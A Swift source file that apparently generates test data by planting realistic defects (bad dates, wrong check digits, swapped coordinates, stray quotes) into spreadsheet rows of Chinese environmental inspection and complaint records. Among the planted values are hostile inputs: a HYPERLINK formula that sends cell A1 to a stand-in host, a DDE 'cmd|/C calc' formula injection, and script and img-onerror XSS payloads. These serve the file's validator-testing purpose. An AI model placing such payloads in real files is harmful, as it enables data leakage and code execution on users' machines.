import Vocabulary

/// Plants what goes wrong in real exports, a few of each, in rows that are no case already.
struct Troubles {
  private var sequence: SeededSequence

  static func plant(in sheets: inout [Sheet], seed: UInt64) {
    var troubles = Troubles(sequence: SeededSequence(seed: seed, part: "troubles"))
    troubles.repeatAcrossQuarters(&sheets)
    for index in sheets.indices {
      let isEarlier = sheets[index].path.contains("2026Q2")
      switch sheets[index].kind {
      case .inspection: troubles.inspection(&sheets[index], isEarlier: isEarlier)
      case .inspectorate: troubles.inspectorate(&sheets[index])
      case .emergency: troubles.emergency(&sheets[index])
      case .transfer: troubles.transfer(&sheets[index])
      case .penalty: troubles.penalty(&sheets[index], isEarlier: isEarlier)
      case .complaint: troubles.complaint(&sheets[index], isEarlier: isEarlier)
      case .history: troubles.history(&sheets[index])
      }
    }
  }

  /// Changes one ordinary row that `fits` and marks it.
  private mutating func one(
    _ kind: SampleCase, _ sheet: inout Sheet, where fits: (SheetRow) -> Bool = { _ in true },
    _ change: (inout SheetRow) -> Void
  ) {
    let candidates = sheet.rows.indices.filter {
      sheet.rows[$0].cases.isEmpty && fits(sheet.rows[$0])
    }
    guard !candidates.isEmpty else { return }
    let index = sequence.pick(candidates)
    change(&sheet.rows[index])
    sheet.rows[index].cases = [kind]
  }

  /// Repeats an ordinary row further down, byte for byte.
  private mutating func again(_ sheet: inout Sheet) {
    let candidates = sheet.rows.indices.filter { sheet.rows[$0].cases.isEmpty }
    guard !candidates.isEmpty else { return }
    let index = sequence.pick(candidates)
    sheet.rows[index].cases = [.identicalRow]
    sheet.rows.insert(
      sheet.rows[index], at: sequence.between(index + 1, min(index + 6, sheet.rows.count)))
  }

  /// Takes over rows of the second quarter into the third's sheet of the same source:
  /// inspections, the inspectorate's problems and complaints, by their place among the sheets.
  private mutating func repeatAcrossQuarters(_ sheets: inout [Sheet]) {
    let half = QuarterDrop.kinds.count
    for kind in [0, 1, 5] where sheets.indices.contains(half + kind) {
      for _ in 0..<2 {
        let candidates = sheets[kind].rows.indices.filter { sheets[kind].rows[$0].cases.isEmpty }
        guard !candidates.isEmpty else { continue }
        let index = sequence.pick(candidates.suffix(20).map { $0 })
        sheets[kind].rows[index].cases = [.repeatedAcrossQuarters]
        sheets[half + kind].rows.insert(sheets[kind].rows[index], at: 0)
      }
    }
  }

  private mutating func inspection(_ sheet: inout Sheet, isEarlier: Bool) {
    let hasCode = { (row: SheetRow) in row.text(.code).count == 18 }
    let hasPoint = { (row: SheetRow) in !row.text(.longitude).isEmpty }
    one(.wrongFieldCount, &sheet) { $0.flaw = isEarlier ? .fieldMissing : .fieldTooMany }
    one(.strayQuote, &sheet) { $0.flaw = .strayQuote }
    one(.impossibleDate, &sheet) {
      $0[.inspected] = .text(isEarlier ? "2026-06-31" : "2026/9/31")
    }
    one(.impossibleDate, &sheet) { $0[.occurred] = .text(isEarlier ? "2026-02-30" : "2026/13/5") }
    one(.monthOnlyDate, &sheet) { $0[.occurred] = .text(isEarlier ? "2026年5月" : "2026年8月") }
    one(.missingParty, &sheet) { $0[.party] = .empty }
    one(.missingNumber, &sheet) { $0[.number] = .empty }
    one(.amountInWords, &sheet) { $0[.damage] = .text("待评估") }
    one(.wrongCheckDigit, &sheet, where: hasCode) { row in
      row[.code] = .text(Troubles.withWrongCheck(row.text(.code)))
    }
    one(.letterForZero, &sheet, where: { $0.text(.code).contains("0") }) { row in
      row[.code] = .text(Troubles.withLetters(row.text(.code)))
    }
    for word in ["无", "-", "不详", "0"] {
      one(.placeholder, &sheet) { $0[.code] = .text(word) }
    }
    one(.zeroCode, &sheet) { $0[.code] = .text("000000000000000000") }
    one(.exchangedCoordinates, &sheet, where: hasPoint) { row in
      (row[.longitude], row[.latitude]) = (row[.latitude], row[.longitude])
    }
    one(.noCoordinates, &sheet, where: hasPoint) { row in
      row[.longitude] = .empty
      row[.latitude] = .empty
    }
    for _ in 0..<2 {
      one(.sexagesimalCoordinates, &sheet, where: hasPoint) { row in
        row[.longitude] = .text(Troubles.sexagesimal(row.text(.longitude)))
        row[.latitude] = .text(Troubles.sexagesimal(row.text(.latitude)))
      }
    }
    one(.unknownCounty, &sheet) { row in
      row[.county] = .text("雁北县")
      row[.countyCode] = .text("140990")
    }
    one(.fullWidthDigits, &sheet) { $0[.occurred] = .text(isEarlier ? "２０２６－０５－１２" : "２０２６／８／１２") }
    one(.rareCharacter, &sheet) { $0[.representative] = .text("王\u{2CB5A}\u{20BB7}") }
    one(.formulaText, &sheet) {
      $0[.remark] = .text("=HYPERLINK(\"http://example.invalid/?\"&A1,\"点击查看\")")
    }
    one(.markupText, &sheet) { $0[.remark] = .text("<script>alert('检查')</script><b>已复核</b>") }
    one(.quotedLineBreak, &sheet) { row in
      row[.facts] = .text("现场检查发现：\r\n1.台账\"不全\",未如实记录;\r\n2." + row.text(.facts).dropFirst(7))
    }
    if isEarlier {
      var totals = SheetRow(on: sheet.rows.last?.sortDay ?? Day(number: 0), number: "合计")
      totals.cases = [.totalsRow]
      totals[.damage] = .amount(fen: 152_340_000)
      sheet.rows.append(totals)
    } else {
      one(.otherDatum, &sheet, where: hasPoint) { $0[.datum] = .text("GCJ-02") }
      again(&sheet)
    }
  }

  private mutating func inspectorate(_ sheet: inout Sheet) {
    one(.monthOnlyDate, &sheet) { $0[.occurred] = .text("2026年春季") }
    one(.missingNumber, &sheet) { $0[.number] = .empty }
    one(.unknownWord, &sheet) { $0[.rectification] = .text("未达序时进度") }
    one(.quotedLineBreak, &sheet) { row in
      row[.facts] = .text(row.text(.facts) + "\n处理情况：\"已责令停产\"，正在核实。")
    }
    one(.amountInWords, &sheet) { $0[.damage] = .text("正在评估") }
  }

  private mutating func emergency(_ sheet: inout Sheet) {
    one(.impossibleDate, &sheet) { $0[.occurredAt] = .text("2026-06-31 25:10") }
    one(.noCoordinates, &sheet) { row in
      row[.longitude] = .text("0")
      row[.latitude] = .text("0")
    }
    one(.placeholder, &sheet) { row in
      row[.party] = .text("不详")
      row[.code] = .text("/")
    }
  }

  private mutating func transfer(_ sheet: inout Sheet) {
    one(.impossibleDate, &sheet) { $0[.received] = .text("2026年4月31日") }
    one(.missingParty, &sheet) { $0[.party] = .empty }
    one(.fullWidthDigits, &sheet) { $0[.damage] = .text("１２，５００．００") }
    one(.wrongFieldCount, &sheet) { $0.flaw = .fieldMissing }
    one(.amountInWords, &sheet) { $0[.damage] = .text("叁仟元整") }
  }

  private mutating func penalty(_ sheet: inout Sheet, isEarlier: Bool) {
    one(.wrongCheckDigit, &sheet, where: { $0.text(.code).count == 18 }) { row in
      row[.code] = .text(Troubles.withWrongCheck(row.text(.code)))
    }
    one(.strayQuote, &sheet) { $0.flaw = .strayQuote }
    one(.missingNumber, &sheet) { $0[.document] = .empty }
    one(.placeholder, &sheet) { $0[.code] = .text("(null)") }
    again(&sheet)
    if !isEarlier {
      var header = SheetRow(on: Day(number: 0), number: "")
      header.flaw = .headerAgain
      header.cases = [.repeatedHeader]
      sheet.rows.insert(header, at: sheet.rows.count / 2)
    }
  }

  private mutating func complaint(_ sheet: inout Sheet, isEarlier: Bool) {
    for _ in 0..<2 {
      one(.quotedLineBreak, &sheet) { row in
        row[.facts] = .text(row.text(.facts) + "\n联系不上，\"晚上味道大\",请回电")
      }
    }
    one(.markupText, &sheet) { $0[.facts] = .text("工厂夜间排烟<img src=x onerror=alert(1)>") }
    one(.formulaText, &sheet) { $0[.facts] = .text("@SUM(1+1)*cmd|'/C calc'!A0 厂区冒黑烟") }
    one(.missingNumber, &sheet) { $0[.number] = .empty }
    one(.unknownWord, &sheet) { $0[.progress] = .text("已转办") }
    one(.impossibleDate, &sheet) { row in
      row[.accepted] = .text("2026-00-15")
      row[.reported] = .text("2026-00-15")
    }
    if !isEarlier {
      again(&sheet)
      one(.wrongFieldCount, &sheet) { $0.flaw = .fieldTooMany }
    }
  }

  private mutating func history(_ sheet: inout Sheet) {
    one(.monthOnlyDate, &sheet) { $0[.occurred] = .text("2024年6月") }
    one(.placeholder, &sheet) { $0[.code] = .text("无") }
    one(.missingParty, &sheet) { $0[.party] = .empty }
  }

  /// The code with another last character than its check asks for.
  private static func withWrongCheck(_ code: String) -> String {
    code.dropLast() + (code.hasSuffix("7") ? "8" : "7")
  }

  /// The code with every 0 typed as the letter O.
  private static func withLetters(_ code: String) -> String {
    String(code.map { $0 == "0" ? "O" : $0 })
  }

  /// Decimal degrees as degrees, minutes and seconds.
  private static func sexagesimal(_ degrees: String) -> String {
    let parts = degrees.split(separator: ".")
    guard parts.count == 2, let whole = Int(parts[0]),
      let fraction = Int(parts[1] + String(repeating: "0", count: 6 - parts[1].count))
    else { return degrees }
    return Coordinate.sexagesimal(whole * 1_000_000 + fraction)
  }
}
